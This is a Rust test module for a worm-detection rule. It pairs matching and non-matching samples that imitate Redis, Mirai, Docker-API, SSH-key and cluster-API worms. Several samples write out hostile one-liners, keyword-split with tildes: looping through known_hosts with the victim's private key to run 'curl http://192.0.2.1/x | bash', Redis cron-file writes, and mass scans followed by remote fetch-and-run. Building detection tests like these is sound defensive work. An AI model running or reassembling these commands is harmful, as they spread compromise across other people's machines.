//! `malware.worm`.

use super::{Case, case};
use crate::samples::{elf, go, script};

pub(crate) fn cases() -> Vec<Case> {
    vec![
        case(
            "worm_redis",
            elf(&[
                "SLAVE~OF",
                "MODULE~ LOAD",
                "system.~exec",
                "/var/spool/~cron",
            ]),
            elf(&[
                "SLAVE~OF",
                "MODULE~ LOAD",
                "CONFIG SET~ dir",
                "redis.conf",
                "/var/spool/~cron",
            ]),
        ),
        case(
            "worm_panchan",
            elf(&["pan-~chan", "god~mode", "p2p"]),
            elf(&["god~mode", "p2p", "xmr~ig"]),
        ),
        case(
            "worm_mirai_loader",
            elf(&[
                "/bin/busybox~ wget",
                "/bin/busybox~ tftp",
                "/bin/busybox~ ECCHI",
            ]),
            elf(&["/bin/busybox~ wget", "/bin/busybox sh"]),
        ),
        case(
            "worm_go_spreader",
            go(
                1,
                &[
                    "main.sp~read",
                    "main.sc~anHosts",
                    "golang.org/x/~crypto/ssh",
                    "known_~hosts",
                ],
            ),
            go(
                1,
                &["main.sp~read", "golang.org/x/~crypto/ssh", "known_~hosts"],
            ),
        ),
        case(
            "worm_ssh_keys",
            script(
                "bash",
                "for h in $(cat $HOME/.ssh/known_~hosts); do ssh -i $HOME/.ssh/id_~rsa -o StrictHostKey~Checking=no $h 'cu~rl -s http://192.0.2.1/x | bash'; done\n",
            ),
            script(
                "bash",
                "for h in $(cat $HOME/.ssh/known_~hosts); do ssh -i $HOME/.ssh/id_~rsa -o StrictHostKey~Checking=no $h uptime; done\n",
            ),
        ),
        case(
            "worm_redis_cron",
            script(
                "sh",
                "redis~-cli -h $1 config~ set dir /var/spool/cron\nredis~-cli -h $1 config~ set dbfilename root\n",
            ),
            script(
                "sh",
                "redis~-cli -h $1 config~ set dir /var/lib/redis\nredis~-cli -h $1 config~ set dbfilename dump.rdb\n",
            ),
        ),
        case(
            "worm_docker_api",
            script(
                "bash",
                "mass~can 10.0.0.0/8 -p 2375 > l; while read h; do docker~ -H tcp://$h:2375 run -v~ /:/mnt alpine sh -c 'cu~rl http://192.0.2.1/x'; done < l\n",
            ),
            script(
                "bash",
                "docker~ -H tcp://$h:2375 run alpine cu~rl http://192.0.2.1/x\n",
            ),
        ),
        case(
            "worm_cluster_api",
            script(
                "bash",
                "for h in $(cat l); do cu~rl -X POST http://$h:8088/ws/v1/cluster/apps/new~-application; c='{\"am-container~-spec\": \"cu~rl http://192.0.2.1/x | bash\"}'; done\n",
            ),
            script(
                "bash",
                "cu~rl -X POST http://$h:8088/ws/v1/cluster/apps/new~-application\n",
            ),
        ),
        case(
            "worm_scan_and_enter",
            script(
                "bash",
                "mass~can 10.0.0.0/8 -p22 > l\nwhile read h; do ssh~pass -p x ssh $h 'wg~et -q -O- http://192.0.2.1/x | sh'; done < l\n",
            ),
            script(
                "bash",
                "while read h; do ssh~pass -p x ssh $h uptime; done < l\n",
            ),
        ),
    ]
}
